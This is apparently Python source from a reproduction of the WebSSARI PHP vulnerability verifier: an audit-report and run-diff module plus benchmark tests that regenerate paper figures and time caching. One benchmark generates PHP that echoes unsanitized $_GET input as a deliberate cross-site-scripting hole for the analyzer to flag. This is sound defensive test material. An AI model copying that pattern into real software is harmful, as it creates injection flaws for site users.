            for trailer in self.node_stats.values()
            if isinstance(trailer.get("slow_queries"), list)
        ]
        if node_trailers:
            for trailer in node_trailers:
                node = trailer.get("node")
                ledger.merge(
                    {**query, "node": query.get("node", node)}
                    for query in trailer["slow_queries"]
                    if isinstance(query, dict)
                )
        elif isinstance((self.stats or {}).get("slow_queries"), list):
            ledger.merge(self.stats["slow_queries"])
        else:
            for record in self.files:
                if not record.get("cached"):
                    ledger.merge(record.get("slow_queries") or [])
        records = ledger.records()
        return records[:top] if top is not None else records


def _is_vulnerable(record: dict) -> bool:
    return record.get("status") == "ok" and record.get("safe") is False


def _is_safe(record: dict) -> bool:
    return record.get("status") == "ok" and record.get("safe") is True


def load_audit(path: str | Path) -> AuditRun:
    """Parse an audit JSONL file, tolerating a truncated final line."""
    path = Path(path)
    try:
        text = path.read_text()
    except OSError as exc:
        raise ReportError(f"cannot read {path}: {exc}") from exc
    run = AuditRun(path=str(path))
    lines = text.splitlines()
    for lineno, line in enumerate(lines, start=1):
        if not line.strip():
            continue
        try:
            record = json.loads(line)
        except ValueError as exc:
            # A killed writer can leave one torn final line; anything
            # torn earlier means the file is not an audit stream.
            if lineno == len(lines):
                run.truncated = True
                continue
            raise ReportError(f"{path}:{lineno}: invalid JSON: {exc}") from exc
        if not isinstance(record, dict):
            raise ReportError(f"{path}:{lineno}: expected a JSON object")
        kind = record.get("type")
        if kind == "file":
            if "filename" not in record:
                raise ReportError(f"{path}:{lineno}: file record without filename")
            run.files.append(record)
        elif kind == "stats":
            # Merged distributed streams (repro serve) interleave one
            # per-node trailer per worker before the global trailer; a
            # node trailer must never masquerade as the run's stats.
            if record.get("node") is not None:
                run.node_stats[str(record["node"])] = record
            else:
                run.stats = record
    if run.stats is None:
        run.truncated = True
    return run


def _tally(records: list[dict]) -> dict[str, int]:
    tally = {"safe": 0, "vulnerable": 0, "failed": 0, "cached": 0}
    for record in records:
        if _is_safe(record):
            tally["safe"] += 1
        elif _is_vulnerable(record):
            tally["vulnerable"] += 1
        else:
            tally["failed"] += 1
        if record.get("cached"):
            tally["cached"] += 1
    return tally


def _sum_dicts(records: list[dict], key: str) -> dict[str, float]:
    totals: dict[str, float] = {}
    for record in records:
        payload = record.get(key)
        if not isinstance(payload, dict):
            continue
        for name, value in payload.items():
            if isinstance(value, (int, float)) and not isinstance(value, bool):
                totals[name] = totals.get(name, 0) + value
    return totals


def replay_disagreements(records: list[dict]) -> list[dict]:
    """Vulnerable-but-refuted files: the static verdict said vulnerable,
    yet every synthesized witness request failed to reach a sink on a
    fully steered path.  These are the candidate false positives the
    replay subsystem exists to surface.  Pre-replay records (no
    ``replay`` section — older streams, replay off) contribute nothing.
    """
    out: list[dict] = []
    for record in records:
        replay = record.get("replay")
        if not _is_vulnerable(record) or not isinstance(replay, dict):
            continue
        refuted = replay.get("refuted")
        if isinstance(refuted, int) and not isinstance(refuted, bool) and refuted > 0:
            out.append(
                {
                    "filename": record.get("filename", "?"),
                    "refuted": refuted,
                    "confirmed": int(replay.get("confirmed") or 0),
                }
            )
    return out


def _failures_by_status(records: list[dict]) -> dict[str, int]:
    by_status: dict[str, int] = {}
    for record in records:
        if record.get("status") != "ok":
            by_status[record["status"]] = by_status.get(record["status"], 0) + 1
    return by_status


def _stage_sort_key(stage: str) -> tuple[int, str]:
    return (
        _STAGE_ORDER.index(stage) if stage in _STAGE_ORDER else len(_STAGE_ORDER),
        stage,
    )


def stage_quantiles(records: list[dict]) -> dict[str, dict]:
    """Per-stage latency quantiles from file-record timings.

    Observations go through the same cumulative-bucket histogram and
    interpolating estimator as the ``/metrics`` ``_quantile`` gauges, so
    a report and a scrape of the same run agree (both are estimates
    bounded by the bucket layout, not exact order statistics).  Cached
    records are skipped — their stages never ran in this run.
    """
    registry = MetricsRegistry()
    histogram = registry.histogram("report_stage_seconds")
    counts: dict[str, int] = {}
    for record in records:
        if record.get("cached"):
            continue
        timings = record.get("timings")
        if not isinstance(timings, dict):
            continue
        for stage, seconds in timings.items():
            if isinstance(seconds, (int, float)) and not isinstance(seconds, bool):
                histogram.observe(float(seconds), stage=str(stage))
                counts[str(stage)] = counts.get(str(stage), 0) + 1
    out: dict[str, dict] = {}
    for stage in sorted(counts, key=_stage_sort_key):
        out[stage] = {
            "count": counts[stage],
            **{
                f"p{int(q * 100)}": histogram.quantile(q, stage=stage)
                for q in _REPORT_QUANTILES
            },
        }
    return out


def _format_slow_query(query: dict) -> str:
    parts = [
        f"{float(query.get('seconds') or 0.0):9.3f}s",
        str(query.get("file") or "?"),
        f"assertion {query.get('assert_id', '?')}",
    ]
    counters = [
        f"{int(query[name])} {name}"
        for name in ("decisions", "conflicts")
        if isinstance(query.get(name), (int, float))
        and not isinstance(query.get(name), bool)
    ]
    if counters:
        parts.append(", ".join(counters))
    if query.get("winner"):
        parts.append(f"won by {query['winner']}")
    if query.get("node"):
        parts.append(f"node {query['node']}")
    fingerprint = query.get("fingerprint")
    if isinstance(fingerprint, str) and fingerprint:
        parts.append(f"fp {fingerprint[:12]}")
    return "  ".join(parts)


def render_report(run: AuditRun, top: int = 10) -> str:
    """Human-readable summary of one audit run."""
    records = run.files
    tally = _tally(records)
    lines = [f"audit report — {run.path}"]
    if run.truncated:
        lines.append("warning: stream has no stats trailer (truncated or interrupted run)")
    stats = run.stats or {}
    if stats.get("interrupted"):
        lines.append("warning: run was interrupted before completion")
    total = stats.get("total", len(records))
    wall = stats.get("wall_seconds")
    header = f"files: {len(records)}/{total} audited"
    if isinstance(wall, (int, float)):
        header += f" in {wall:.2f}s"
    lines.append(header)
    lines.append(
        f"verdicts: {tally['safe']} safe, {tally['vulnerable']} vulnerable, "
        f"{tally['failed']} failed"
    )
    lines.append(
        f"cache: {tally['cached']} hit(s), {len(records) - tally['cached']} miss(es)"
    )

    durations = [
        r["duration"]
        for r in records
        if isinstance(r.get("duration"), (int, float))
        and not isinstance(r.get("duration"), bool)
    ]
    # Guarded: a trailer-only or fully-drained stream has no durations,
    # and the mean must not divide by zero.
    if durations:
        lines.append(
            f"per-file duration: mean {sum(durations) / len(durations):.3f}s, "
            f"max {max(durations):.3f}s"
        )

    by_status = _failures_by_status(records)
    if by_status:
        parts = ", ".join(f"{count} {status}" for status, count in sorted(by_status.items()))
        lines.append(f"failures: {parts}")

    stage_totals = _sum_dicts(records, "timings")
    if stage_totals:
        stage_text = ", ".join(
            f"{stage} {seconds:.2f}s" for stage, seconds in sorted(stage_totals.items())
        )
        lines.append(f"stage time: {stage_text}")

    quantiles = stage_quantiles(records)
    if quantiles:
        lines.append("stage latency p50/p90/p99 (bucket-interpolated):")
        for stage, latency in quantiles.items():
            lines.append(
                f"  {stage:<7} {latency['p50']:.3f}s / {latency['p90']:.3f}s / "
                f"{latency['p99']:.3f}s  (n={latency['count']})"
            )

    if run.node_stats:
        parts = ", ".join(
            f"{node} ({trailer.get('files', '?')} file(s))"
            for node, trailer in sorted(run.node_stats.items())
        )
        lines.append(f"nodes: {parts}")

    solver_totals = _sum_dicts(records, "solver")
    if solver_totals:
        order = ("solve_calls", "decisions", "propagations", "conflicts",
                 "learned_clauses", "restarts", "preprocessed_clauses",
                 "lbd_deletions", "cache_hits", "cache_misses")
        parts = [
            f"{int(solver_totals[name])} {name.replace('_', ' ')}"
            for name in order
            if name in solver_totals
        ]
        if parts:
            lines.append("solver: " + ", ".join(parts))
        imported = int(solver_totals.get("learned_imported", 0))
        reclaimed = int(solver_totals.get("root_satisfied_deleted", 0))
        if imported or reclaimed:
            lines.append(
                f"incremental: {imported} learned clause(s) imported, "
                f"{reclaimed} dead clause(s) reclaimed"
            )
        races = int(solver_totals.get("portfolio_races", 0))
        if races:
            wasted = int(solver_totals.get("portfolio_wasted_conflicts", 0))
            prefix = "portfolio_win_"
            wins = ", ".join(
                f"{name[len(prefix):].replace('_', '-')} x{int(count)}"
                for name, count in sorted(solver_totals.items())
                if name.startswith(prefix)
            )
            line = f"portfolio: {races} race(s), {wasted} wasted conflict(s)"
            if wins:
                line += f"; wins: {wins}"
            lines.append(line)

    include_totals = _sum_dicts(records, "includes")
    if include_totals:
        parts = [
            f"{int(include_totals.get('edges', 0))} edge(s)",
            f"{int(include_totals.get('included_files', 0))} spliced",
            f"{int(include_totals.get('unresolved', 0))} unresolved dynamic",
        ]
        hits = int(include_totals.get("parse_cache_hits", 0))
        misses = int(include_totals.get("parse_cache_misses", 0))
        if hits or misses:
            parts.append(f"parse cache {hits} hit(s) / {misses} miss(es)")
        lines.append("includes: " + ", ".join(parts))

    replay_totals = _sum_dicts(records, "replay")
    if replay_totals:
        lines.append(
            f"replay: {int(replay_totals.get('confirmed', 0))} confirmed, "
            f"{int(replay_totals.get('refuted', 0))} refuted, "
            f"{int(replay_totals.get('unsupported', 0))} unsupported"
            + (
                f", {int(replay_totals['skipped'])} skipped"
                if replay_totals.get("skipped")
                else ""
            )
        )
        killed = int(replay_totals.get("patched_refuted", 0))
        survived = int(replay_totals.get("patched_confirmed", 0))
        if killed or survived:
            lines.append(f"patched replay: {killed} killed, {survived} survived")
        disagreements = replay_disagreements(records)
        if disagreements:
            lines.append(
                f"replay disagreements (vulnerable but refuted): {len(disagreements)}"
            )
            for item in disagreements:
                lines.append(
                    f"  {item['filename']}  ({item['refuted']} refuted, "
                    f"{item['confirmed']} confirmed)"
                )

    slow = run.slow_queries(top=max(0, top))
    if slow:
        lines.append(f"slow queries (top {len(slow)}):")
        for query in slow:
            lines.append("  " + _format_slow_query(query))

    slowest = sorted(
        (r for r in records if isinstance(r.get("duration"), (int, float))),
        key=lambda r: r["duration"],
        reverse=True,
    )[: max(0, top)]
    if slowest:
        lines.append(f"slowest {len(slowest)} file(s):")
        for record in slowest:
            verdict = (
                "vulnerable"
                if _is_vulnerable(record)
                else ("safe" if _is_safe(record) else record.get("status", "?"))
            )
            lines.append(f"  {record['duration']:9.3f}s  {record['filename']}  [{verdict}]")
    return "\n".join(lines)


def summarize_run(run: AuditRun, top: int = 10) -> dict:
    """Machine-readable run summary (the ``repro report --json`` payload).

    Carries everything :func:`render_report` prints — tallies, stage
    sums and quantiles, node attribution, the slow-query ledger, the
    slowest files — as plain JSON-able data, so CI and bench harnesses
    stop scraping the human-oriented text.
    """
    records = run.files
    stats = run.stats or {}
    durations = [
        r["duration"]
        for r in records
        if isinstance(r.get("duration"), (int, float))
        and not isinstance(r.get("duration"), bool)
    ]
    slowest = sorted(
        (r for r in records if isinstance(r.get("duration"), (int, float))),
        key=lambda r: r["duration"],
        reverse=True,
    )[: max(0, top)]

    def verdict_of(record: dict) -> str:
        if _is_vulnerable(record):
            return "vulnerable"
        if _is_safe(record):
            return "safe"
        return str(record.get("status", "?"))

    return {
        "path": run.path,
        "truncated": run.truncated,
        "interrupted": bool(stats.get("interrupted")),
        "files_audited": len(records),
        "files_total": stats.get("total", len(records)),
        "wall_seconds": stats.get("wall_seconds"),
        "verdicts": _tally(records),
        "failures": _failures_by_status(records),
        "duration": {
            "mean": sum(durations) / len(durations) if durations else None,
            "max": max(durations) if durations else None,
        },
        "stage_seconds": {
            stage: seconds
            for stage, seconds in sorted(_sum_dicts(records, "timings").items())
        },
        "stage_quantiles": stage_quantiles(records),
        "solver": {
            name: value
            for name, value in sorted(_sum_dicts(records, "solver").items())
        },
        "includes": {
            name: value
            for name, value in sorted(_sum_dicts(records, "includes").items())
        },
        "replay": {
            name: value
            for name, value in sorted(_sum_dicts(records, "replay").items())
        },
        "replay_disagreements": replay_disagreements(records),
        "nodes": {
            node: {k: v for k, v in trailer.items() if k not in ("type", "node")}
            for node, trailer in sorted(run.node_stats.items())
        },
        "slow_queries": run.slow_queries(top=max(0, top)),
        "slowest_files": [
            {
                "filename": record["filename"],
                "duration": record["duration"],
                "verdict": verdict_of(record),
            }
            for record in slowest
        ],
    }


@dataclass
class AuditDiff:
    """File-level classification between two runs of the same corpus."""

    #: Vulnerable in the new run, absent from the old one.
    new_vulnerable: list[str] = field(default_factory=list)
    #: Vulnerable before, verified safe now.
    fixed: list[str] = field(default_factory=list)
    #: Present in both, not vulnerable before, vulnerable now.
    regressed: list[str] = field(default_factory=list)
    #: Analyzable before (status ok), failed now — a tooling regression.
    broken: list[str] = field(default_factory=list)
    #: Failed before, analyzable now.
    recovered: list[str] = field(default_factory=list)
    #: Present only in the old run.
    removed: list[str] = field(default_factory=list)
    #: Present only in the new run and not vulnerable.
    added: list[str] = field(default_factory=list)
    still_vulnerable: int = 0

    @property
    def has_regressions(self) -> bool:
        return bool(self.new_vulnerable or self.regressed)


def diff_runs(old: AuditRun, new: AuditRun) -> AuditDiff:
    """Classify per-file verdict movement from ``old`` to ``new``."""
    old_by_name = old.by_filename()
    new_by_name = new.by_filename()
    diff = AuditDiff()
    for name in sorted(set(old_by_name) | set(new_by_name)):
        before = old_by_name.get(name)
        after = new_by_name.get(name)
        if after is None:
            diff.removed.append(name)
            continue
        if before is None:
            if _is_vulnerable(after):
                diff.new_vulnerable.append(name)
            else:
                diff.added.append(name)
            continue
        if _is_vulnerable(before) and _is_vulnerable(after):
            diff.still_vulnerable += 1
        elif _is_vulnerable(after):
            diff.regressed.append(name)
        elif _is_vulnerable(before) and _is_safe(after):
            diff.fixed.append(name)
        if before.get("status") == "ok" and after.get("status") != "ok":
            diff.broken.append(name)
        elif before.get("status") != "ok" and after.get("status") == "ok":
            diff.recovered.append(name)
    return diff


def render_diff(old: AuditRun, new: AuditRun, diff: AuditDiff) -> str:
    """Human-readable new / fixed / regressed listing."""
    lines = [f"audit diff — {old.path} → {new.path}"]
    for run in (old, new):
        if run.truncated:
            lines.append(f"warning: {run.path} has no stats trailer (truncated run)")

    def section(title: str, names: list[str]) -> None:
        lines.append(f"{title}: {len(names)}")
        for name in names:
            lines.append(f"  {name}")

    section("new vulnerable file(s)", diff.new_vulnerable)
    section("regressed (safe → vulnerable)", diff.regressed)
    section("fixed (vulnerable → safe)", diff.fixed)
    if diff.broken:
        section("broken (analyzed → failed)", diff.broken)
    if diff.recovered:
        section("recovered (failed → analyzed)", diff.recovered)
    if diff.added:
        lines.append(f"added file(s): {len(diff.added)}")
    if diff.removed:
        lines.append(f"removed file(s): {len(diff.removed)}")
    lines.append(f"still vulnerable: {diff.still_vulnerable}")
    verdict = "REGRESSIONS FOUND" if diff.has_regressions else "no regressions"
    lines.append(f"result: {verdict}")
    return "\n".join(lines)
