"""SCALE — analysis cost vs program size.

The paper analyzed 1,140,091 statements across the corpus with the TS
pass and ran the BMC on the flagged projects.  This bench characterizes
how both pipelines scale on generated projects of growing size, and how
the BMC scales with the number of assertions and counterexamples —
the practical claims behind "BMC offers a more practical approach to
verifying programs containing large numbers of variables".
"""

from __future__ import annotations

import time

import pytest

from repro import WebSSARI
from repro.ai import rename, translate_filter_result
from repro.bmc import check_program
from repro.corpus import ProjectSpec, generate_project
from repro.ir import filter_source
from repro.typestate import analyze_commands


@pytest.mark.benchmark(group="scaling")
def test_project_size_sweep(benchmark):
    """TS + BMC wall time on projects of growing statement counts."""
    specs = [
        ProjectSpec(name=f"scale-{n}", ts_errors=6, bmc_groups=3, target_statements=n, target_files=4)
        for n in (100, 300, 900, 2700)
    ]

    def sweep():
        rows = []
        websari = WebSSARI()
        for spec in specs:
            generated = generate_project(spec)
            start = time.perf_counter()
            report = websari.verify_project(generated.project)
            elapsed = time.perf_counter() - start
            assert report.ts_error_count == 6
            assert report.bmc_group_count == 3
            rows.append((spec.target_statements, report.num_statements, elapsed))
        return rows

    rows = benchmark.pedantic(sweep, rounds=1, iterations=1)
    print()
    print("verification time vs project size (TS + BMC + grouping):")
    print(f"{'target':>8s} {'actual stmts':>13s} {'seconds':>9s} {'us/stmt':>9s}")
    for target, actual, seconds in rows:
        print(f"{target:8d} {actual:13d} {seconds:9.3f} {1e6 * seconds / actual:9.1f}")
    # Shape: near-linear — time per statement must not blow up.
    per_stmt = [seconds / actual for _, actual, seconds in rows]
    assert per_stmt[-1] < per_stmt[0] * 6


@pytest.mark.benchmark(group="scaling")
def test_assertion_count_sweep(benchmark):
    """BMC cost as the number of (violated) assertions grows."""

    def program_with_sinks(count: int) -> str:
        lines = ["$root = $_GET['q'];"]
        for i in range(count):
            lines.append(f"$u{i} = $root; echo $u{i};")
        return "<?php " + "\n".join(lines)

    sizes = [5, 20, 80]

    def sweep():
        rows = []
        for size in sizes:
            renamed = rename(
                translate_filter_result(filter_source(program_with_sinks(size)))
            )
            start = time.perf_counter()
            result = check_program(renamed)
            elapsed = time.perf_counter() - start
            assert len(result.violated) == size
            rows.append((size, result.num_clauses, elapsed))
        return rows

    rows = benchmark.pedantic(sweep, rounds=1, iterations=1)
    print()
    print("BMC cost vs assertion count (all violated):")
    print(f"{'asserts':>8s} {'clauses':>9s} {'seconds':>9s}")
    for size, clauses, seconds in rows:
        print(f"{size:8d} {clauses:9d} {seconds:9.4f}")


@pytest.mark.benchmark(group="scaling")
def test_ts_throughput_on_large_file(benchmark):
    """TS alone (the corpus-triage pass) on one big generated file."""
    generated = generate_project(
        ProjectSpec(name="big", ts_errors=0, bmc_groups=0, target_statements=4000, target_files=2)
    )
    path = generated.project.paths()[-1]
    filtered = filter_source(generated.project.source(path), filename=path)

    report = benchmark(lambda: analyze_commands(filtered))
    assert report.safe
    print()
    print(f"TS triage of one {len(generated.project.source(path).splitlines())}-line file")
