"""FIG10 + RED41 — regenerate Figure 10 and the 41.0% headline.

For each of the 38 catalogued projects, a synthetic stand-in with the
same vulnerability topology is generated and pushed through BOTH
pipelines (TS baseline and BMC + grouping).  The analyzer sees only the
generated PHP source; the printed table reproduces the paper's Figure 10
columns, and the assertions check the shape results the paper reports:

* per-project TS and BMC counts match the catalog row exactly,
* the BMC column total is 578,
* the overall instrumentation reduction is ≈41% (40.4% over the rows as
  printed; 41.0% over the paper's stated totals — see EXPERIMENTS.md).
"""

from __future__ import annotations

import pytest

from repro import WebSSARI
from repro.corpus import FIGURE_10, PAPER_TOTALS, catalog_totals
from repro.corpus.generator import generate_catalog_project


def run_figure10_sweep(jobs: int | None = None):
    """Verify all 38 generated projects; ``jobs`` > 1 routes each
    project's entries through the batch-audit engine (repro.engine)."""
    websari = WebSSARI()
    rows = []
    for entry in FIGURE_10:
        generated = generate_catalog_project(entry)
        report = websari.verify_project(generated.project, jobs=jobs)
        rows.append(
            {
                "name": entry.name,
                "activity": entry.activity,
                "expected_ts": entry.ts_errors,
                "expected_bmc": entry.bmc_groups,
                "measured_ts": report.ts_error_count,
                "measured_bmc": report.bmc_group_count,
            }
        )
    return rows


def print_figure10(rows) -> None:
    print()
    print("Figure 10 — TS- and BMC-reported errors for the 38 projects")
    print(f"{'Project':40s} {'A':>3s} {'TS':>5s} {'BMC':>5s} {'TS*':>5s} {'BMC*':>5s}")
    for row in rows:
        print(
            f"{row['name'][:40]:40s} {row['activity']:3d} "
            f"{row['expected_ts']:5d} {row['expected_bmc']:5d} "
            f"{row['measured_ts']:5d} {row['measured_bmc']:5d}"
        )
    total_ts = sum(r["measured_ts"] for r in rows)
    total_bmc = sum(r["measured_bmc"] for r in rows)
    reduction = 100.0 * (total_ts - total_bmc) / total_ts
    print(f"{'Total (measured)':40s}     {total_ts:5d} {total_bmc:5d}")
    print(
        f"paper totals: TS={PAPER_TOTALS['ts_errors']} BMC={PAPER_TOTALS['bmc_groups']} "
        f"reduction={PAPER_TOTALS['reduction_percent']}%"
    )
    print(f"measured reduction: {reduction:.1f}%")
    print("(columns: A activity, TS/BMC catalog, TS*/BMC* measured)")


@pytest.mark.benchmark(group="figure10")
def test_figure10_table(benchmark):
    rows = benchmark.pedantic(run_figure10_sweep, rounds=1, iterations=1)
    print_figure10(rows)

    # Per-project exact agreement with the catalog.
    for row in rows:
        assert row["measured_ts"] == row["expected_ts"], row["name"]
        assert row["measured_bmc"] == row["expected_bmc"], row["name"]

    # Column totals.
    total_ts = sum(r["measured_ts"] for r in rows)
    total_bmc = sum(r["measured_bmc"] for r in rows)
    assert total_bmc == PAPER_TOTALS["bmc_groups"] == 578
    assert total_ts == catalog_totals()["ts_errors"]

    # RED41: the instrumentation reduction (shape: ~41%).
    reduction = 100.0 * (total_ts - total_bmc) / total_ts
    assert 38.0 <= reduction <= 44.0
    # And computed over the paper's stated totals, exactly 41.0%.
    stated = 100.0 * (
        PAPER_TOTALS["ts_errors"] - PAPER_TOTALS["bmc_groups"]
    ) / PAPER_TOTALS["ts_errors"]
    assert round(stated, 1) == 41.0


@pytest.mark.benchmark(group="figure10")
def test_surveyor_project_alone(benchmark):
    """PHP Surveyor: the paper's flagship many-symptoms case (169 → 90)."""
    entry = next(e for e in FIGURE_10 if e.name == "PHP Surveyor")

    def run():
        generated = generate_catalog_project(entry)
        return WebSSARI().verify_project(generated.project)

    report = benchmark(run)
    assert report.ts_error_count == 169
    assert report.bmc_group_count == 90
