"""FIG6 — the worked translation example (PHP → F(p) → AI → ρ → constraints).

Figure 6 of the paper walks its guestbook snippet through every pipeline
stage and shows the two per-assertion formulas B1 and B2.  This bench
re-runs the same snippet, prints each stage, checks the structural
properties visible in the figure, and times the front half of the
pipeline (everything up to CNF).
"""

from __future__ import annotations

import pytest

from repro.ai import rename, translate_filter_result
from repro.ai.renaming import IndexedVar
from repro.bmc import check_program
from repro.bmc.encoder import ConstraintGenerator, LatticeEncoding
from repro.ir import filter_source
from repro.lattice import two_point_lattice

FIGURE6_SOURCE = """<?php
if ($Nick) {
  $tmp = $_GET["nick"];
  echo (htmlspecialchars($tmp));
} else {
  $tmp = "You are the" . $GuestCount . " guest";
  echo ($tmp);
}
"""


def front_half():
    filtered = filter_source(FIGURE6_SOURCE)
    ai = translate_filter_result(filtered)
    renamed = rename(ai)
    generator = ConstraintGenerator(renamed, LatticeEncoding(two_point_lattice()))
    encoded = generator.encode_all()
    return filtered, ai, renamed, generator, encoded


@pytest.mark.benchmark(group="figure6")
def test_figure6_translation(benchmark):
    filtered, ai, renamed, generator, encoded = benchmark.pedantic(
        front_half, rounds=3, iterations=1
    )

    print()
    print("Figure 6 pipeline stages")
    print("-- filtered F(p):")
    print("  " + str(filtered.commands))
    print("-- abstract interpretation AI(F(p)):")
    print("  " + str(ai.body))
    print("-- renamed single-assignment events:")
    for event in renamed.events:
        print("  " + str(event))
    print(f"-- CNF: {generator.cnf.num_vars} vars, {generator.cnf.num_clauses} clauses")

    # Structure checks mirroring the figure.
    assert ai.num_branches == 1  # b_Nick
    assert ai.num_assertions == 2  # one echo per arm
    tmp_versions = [
        e.target.index
        for e in renamed.assigns()
        if e.target.name == "tmp"
    ]
    # Figure 6's j / j+1 / j+2 progression for tmp.
    assert tmp_versions == [1, 2, 3]
    asserts = renamed.assertions()
    assert asserts[0].variables == (IndexedVar("tmp", 2),)
    assert asserts[1].variables == (IndexedVar("tmp", 3),)
    assert [g.positive for g in asserts[0].guard] == [True]
    assert [g.positive for g in asserts[1].guard] == [False]


@pytest.mark.benchmark(group="figure6")
def test_figure6_verification_verdicts(benchmark):
    def run():
        filtered = filter_source(FIGURE6_SOURCE)
        renamed = rename(translate_filter_result(filtered))
        return check_program(renamed)

    result = benchmark(run)
    # Both assertions verify safe: the then-branch is sanitized, the
    # else-branch only carries the untainted guest counter.
    assert result.safe
    print()
    print("Figure 6 verdicts: B1 unsatisfiable, B2 unsatisfiable (program safe)")
