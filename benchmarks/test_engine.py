"""ENGINE — batch-audit engine: cold vs warm cache on the Figure-10 corpus.

Dumps every generated Figure-10 project file to disk as a standalone
audit corpus (283 files), then measures three sweeps through
``repro.engine``:

* cold, inline (``jobs=1``, empty cache) — the sequential baseline,
* cold, pooled (``jobs=4``) — worker-pool overhead / speedup (scales
  with available cores; on a single-core box it can only tie),
* warm (second run, same cache) — the content-addressed cache paying
  off.

Asserts the acceptance contract: the warm run serves ≥90% of files
from cache (100% in practice) with byte-identical per-file verdicts.
"""

from __future__ import annotations

import pytest

from repro import WebSSARI
from repro.corpus import FIGURE_10
from repro.corpus.generator import generate_catalog_project
from repro.engine import AuditEngine, AuditTask, EngineConfig, ResultCache


def dump_corpus(root):
    for entry in FIGURE_10:
        generated = generate_catalog_project(entry)
        for path in generated.project.paths():
            target = root / entry.name / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(generated.project.source(path))
    return sorted(root.rglob("*.php"))


def sweep(files, jobs, cache):
    tasks = [
        AuditTask(index=i, filename=str(path), source=path.read_text())
        for i, path in enumerate(files)
    ]
    engine = AuditEngine(websari=WebSSARI(), config=EngineConfig(jobs=jobs, cache=cache))
    return engine.run(tasks)


@pytest.mark.benchmark(group="engine")
def test_cold_vs_warm_cache(benchmark, tmp_path):
    files = dump_corpus(tmp_path / "corpus")
    assert len(files) > 200

    cold_inline = sweep(files, jobs=1, cache=ResultCache(tmp_path / "c1"))

    pool_cache = ResultCache(tmp_path / "c2")
    cold_pool = sweep(files, jobs=4, cache=pool_cache)
    warm = benchmark.pedantic(
        lambda: sweep(files, jobs=4, cache=pool_cache), rounds=1, iterations=1
    )

    print()
    print(f"Batch-audit engine — {len(files)} files from the Figure-10 corpus")
    for label, result in [
        ("cold jobs=1 (inline)", cold_inline),
        ("cold jobs=4 (pool)", cold_pool),
        ("warm jobs=4 (cached)", warm),
    ]:
        stats = result.stats
        print(
            f"{label:22s} {stats.wall_seconds:6.2f}s  "
            f"{stats.cache_hits:3d} hits / {stats.cache_misses:3d} misses  "
            f"{stats.vulnerable} vulnerable, {stats.failed} failed"
        )

    # Acceptance contract: second cached run ≥90% hits, identical verdicts.
    assert warm.stats.hit_rate() >= 0.90
    assert [o.summary for o in warm.outcomes] == [o.summary for o in cold_pool.outcomes]
    assert [o.safe for o in warm.outcomes] == [o.safe for o in cold_inline.outcomes]
    assert warm.stats.wall_seconds < cold_inline.stats.wall_seconds
