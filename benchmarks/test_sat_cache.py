"""SAT-CACHE — query-level memoization: cold vs warm on repeated shapes.

The file-level ``ResultCache`` is deliberately disabled here; the only
acceleration in play is ``repro.sat.cache`` (canonical-CNF query memo,
persisted to disk).  The corpus is what the cache was built for: PHP
files that are structurally identical up to identifier renaming, under
a multilevel lattice policy (12 levels) that makes the SAT share of the
pipeline realistic rather than trivial.

Three sweeps through ``repro.engine`` (``jobs=1``, file cache off):

* nocache — no SAT cache at all: the parity baseline,
* cold    — empty persist dir; in-run repeated shapes already hit,
* warm    — fresh process-level cache over the same persist dir: every
  query replays from disk, the backend solver is never materialized.

Acceptance contract (ISSUE 3): warm ≥ 2× faster than cold, verdicts
identical across all three sweeps, warm run is all hits.  A trajectory
point is appended to ``BENCH_sat_cache.json`` at the repo root.

Smoke mode (``REPRO_BENCH_SMOKE=1``, used by CI) shrinks the corpus and
drops the timing assertion — queue jitter on shared runners makes small
absolute times meaningless — but keeps the parity and hit-count
contracts, which are what CI is there to guard.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from repro import WebSSARI
from repro.engine import AuditEngine, AuditTask, EngineConfig
from repro.lattice import linear_lattice
from repro.policy import Prelude
from repro.sat.cache import SatQueryCache

SMOKE = os.environ.get("REPRO_BENCH_SMOKE") == "1"

#: Sinks per file.
DISTINCT_KS = [6, 8] if SMOKE else [24, 28, 32, 36, 40, 44]
#: Shapes repeated verbatim-up-to-renaming inside the run: these hit the
#: cache in the *cold* sweep already (cross-file sharing).
REPEAT_KS = [6] if SMOKE else [24, 28]

LEVELS = 12
#: Guarded sanitized concats per sink.  Each branch doubles the path
#: count the UNSAT proof must cover, so the solver's share of cold time
#: grows much faster than the (linear) encode/hash cost that warm
#: replay still pays — this is what makes the cache ratio decisive.
BRANCHES = 2


def build_policy() -> Prelude:
    """A 12-level linear lattice: tainted web inputs, one high sink."""
    names = [f"l{i}" for i in range(LEVELS)]
    prelude = Prelude(linear_lattice(names))
    prelude.add_superglobal("_GET", names[-2])
    prelude.add_superglobal("_COOKIE", names[-1])
    prelude.add_sink("out_hi", names[-1])
    prelude.add_sanitizer("scrub", names[0])
    return prelude


def shape(tag: str, k: int) -> str:
    """One safe file: ``k`` branchy sinks, every path verifying UNSAT."""
    lines = ["<?php"]
    for j in range(k):
        var = f"$a{tag}_{j}"
        lines.append(f"{var} = $_GET['q{tag}_{j}'];")
        for i in range(BRANCHES):
            lines.append(
                f"if ($_GET['m{tag}_{j}_{i}']) "
                f"{{ {var} = {var} . scrub($_COOKIE['c{tag}_{j}_{i}']); }}"
            )
        lines.append(f"out_hi({var});")
    return "\n".join(lines) + "\n"


def make_corpus() -> list[tuple[str, str]]:
    files = [(f"distinct{i}.php", shape(f"d{i}", k)) for i, k in enumerate(DISTINCT_KS)]
    files += [(f"repeat{i}.php", shape(f"r{i}", k)) for i, k in enumerate(REPEAT_KS)]
    return files


def sweep(
    files: list[tuple[str, str]],
    sat_cache: SatQueryCache | None,
    solver: str = "cdcl",
    incremental: bool = True,
):
    tasks = [
        AuditTask(index=i, filename=name, source=source)
        for i, (name, source) in enumerate(files)
    ]
    websari = WebSSARI(
        prelude=build_policy(),
        sat_cache=sat_cache,
        solver=solver,
        sat_incremental=incremental,
    )
    engine = AuditEngine(websari=websari, config=EngineConfig(jobs=1, cache=None))
    return engine.run(tasks)


def assertions_per_second(result) -> float:
    """Throughput in audited assertions/s (0.0 when the clock is too
    coarse to measure the sweep, which happens on the smoke corpus)."""
    total = sum(o.num_ai_assertions for o in result.outcomes)
    seconds = result.stats.wall_seconds
    return round(total / seconds, 2) if seconds else 0.0


def record_trajectory(point: dict) -> None:
    path = Path(__file__).resolve().parent.parent / "BENCH_sat_cache.json"
    try:
        trajectory = json.loads(path.read_text())
        assert isinstance(trajectory, list)
    except (OSError, ValueError, AssertionError):
        trajectory = []
    trajectory.append(point)
    path.write_text(json.dumps(trajectory, indent=2, sort_keys=True) + "\n")


@pytest.mark.benchmark(group="sat-cache")
